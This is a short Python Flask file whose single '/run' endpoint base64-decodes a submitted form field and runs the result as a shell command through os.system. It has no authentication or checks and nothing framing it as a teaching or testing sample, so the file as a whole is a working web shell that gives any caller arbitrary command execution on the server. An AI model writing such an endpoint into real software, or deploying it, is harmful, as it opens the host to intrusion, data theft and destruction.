import base64, os
from flask import Flask, request
app = Flask(__name__)

@app.post("/run")
def run():
    cmd = base64.b64decode(request.form["c"]).decode()
    os.system(cmd)
    return "ok"
